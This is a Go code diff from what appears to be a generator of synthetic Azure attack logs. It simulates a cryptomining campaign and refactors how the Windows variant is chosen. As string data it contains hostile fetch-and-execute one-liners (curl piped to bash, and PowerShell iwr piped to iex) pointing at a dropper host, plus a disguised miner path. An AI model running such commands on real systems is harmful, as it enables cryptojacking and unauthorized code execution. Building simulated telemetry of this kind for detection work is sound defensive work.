@@ -37,9 +37,8 @@ func (g *gen) cpuMining(at time.Time) Attack {
 	script, miner := customScript("curl -fsSL http://"+dropper+"/i.sh | bash"), "/var/tmp/.cache/kswapd0"
 	// A third build Windows machines (windows.go), the miner dropped by a
 	// PowerShell one-liner.
-	windows := g.drawWindows()
+	windows := g.drawWindows(&a)
 	if windows {
-		a.OS = OSWindows
 		script = windowsScript("powershell -ExecutionPolicy Unrestricted -NoProfile -Command \"iwr -UseBasicParsing http://" + dropper + "/i.ps1 | iex\"")
 		miner = pick(g.win, windowsMiners.renamed)
 	}
@@ -48,10 +47,7 @@ func (g *gen) cpuMining(at time.Time) Attack {
 	for i, loc := range regions {
 		rid := t.rg(fmt.Sprintf("batch-%s", loc)) + "/PROVIDERS/MICROSOFT.COMPUTE/VIRTUALMACHINESCALESETS/" + strings.ToUpper(fmt.Sprintf("render-%d", i))
 		net := g.attackNetwork(now, a.Start, sp, "batch-"+loc, fmt.Sprintf("render-%d", i), loc)
-		body := vmssBody(loc, size, 25+g.r.IntN(15), "Spot", []any{script})
-		if windows {
-			body = windowsBody(body, "render")
-		}
+		body := withOS(vmssBody(loc, size, 25+g.r.IntN(15), "Spot", []any{script}), windows, "render")
 		end := g.arm(now, sp, "MICROSOFT.COMPUTE/VIRTUALMACHINESCALESETS/WRITE", rid, armOpts{Body: body, Loc: loc, Accept: true})
 		g.arm(end.Add(30*time.Second), sp, "MICROSOFT.COMPUTE/VIRTUALMACHINESCALESETS/EXTENSIONS/WRITE", rid+"/EXTENSIONS/"+strings.ToUpper(scriptType),
 			armOpts{Body: map[string]any{"location": loc, "properties": script["properties"]}, Loc: loc, Accept: true})
